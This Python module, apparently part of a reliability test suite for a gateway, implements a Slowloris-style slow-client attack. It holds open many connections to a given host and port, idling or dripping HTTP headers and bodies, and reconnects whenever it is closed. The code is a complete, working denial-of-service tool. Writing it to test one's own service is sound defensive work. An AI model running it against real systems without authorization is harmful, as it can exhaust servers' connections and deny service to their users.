"""`python -m reliability.slow_clients.attack HOST PORT CONNECTIONS`: slow on purpose, until ended.

A third says nothing, a third drips a head, a third drips a body; whoever is closed comes back at
once. A process of its own, so that what it costs is not counted as the gateway's.
"""

import asyncio
import sys
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import dataclass, field
from enum import StrEnum
from itertools import cycle, islice

# The one line that it says, when all are connected.
ATTACKING = b"attacking\n"

_DRIP_S = 1.0
# A gateway that refuses is not asked in a busy loop.
_REST_S = 0.1
_HEAD = b"POST /v1/users HTTP/1.1\r\nHost: slow\r\n"
_BODY = _HEAD + b"Content-Type: application/json\r\nContent-Length: 60000\r\n\r\n"


class Habit(StrEnum):
    """What a connection is slow at."""

    IDLE = "idle"
    HEAD = "head"
    BODY = "body"

    @property
    def first(self) -> bytes:
        """What it says at once."""
        return {Habit.IDLE: b"", Habit.HEAD: _HEAD, Habit.BODY: _BODY}[self]

    @property
    def drop(self) -> bytes:
        """What it says every second."""
        return {Habit.IDLE: b"", Habit.HEAD: b"X-Slow: 1\r\n", Habit.BODY: b" "}[self]


@dataclass(slots=True)
class Attack:
    """Slow connections to one address.

    Attributes:
        connected: how many are open.
        closed: how often each habit was closed by the other side.
    """

    host: str
    port: int
    connections: int
    connected: int = 0
    closed: dict[Habit, int] = field(default_factory=lambda: dict.fromkeys(Habit, 0))

    async def run(self) -> None:
        """Runs until it is cancelled."""
        habits: Iterator[Habit] = islice(cycle(Habit), self.connections)
        async with asyncio.TaskGroup() as group:
            for habit in habits:
                group.create_task(self._again_and_again(habit))

    async def _again_and_again(self, habit: Habit) -> None:
        while True:
            try:
                reader, writer = await asyncio.open_connection(self.host, self.port)
            except OSError:
                await asyncio.sleep(_REST_S)
                continue
            self.connected += 1
            try:
                await _drip(habit, reader, writer)
                self.closed[habit] += 1
            finally:
                self.connected -= 1
                writer.close()
            await asyncio.sleep(_REST_S)


async def _drip(habit: Habit, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Returns when the other side has closed."""
    closed = asyncio.create_task(reader.read())
    try:
        writer.write(habit.first)
        while not (await asyncio.wait({closed}, timeout=_DRIP_S))[0]:
            writer.write(habit.drop)
        with suppress(OSError):
            closed.result()
    finally:
        closed.cancel()


async def _main(host: str, port: int, connections: int) -> None:
    attack = Attack(host, port, connections)
    running = asyncio.create_task(attack.run())
    while attack.connected < connections:
        await asyncio.wait({running}, timeout=0.05)
        if running.done():
            running.result()
    sys.stdout.buffer.write(ATTACKING)
    sys.stdout.flush()
    await running


if __name__ == "__main__":
    with suppress(KeyboardInterrupt):
        asyncio.run(_main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3])))
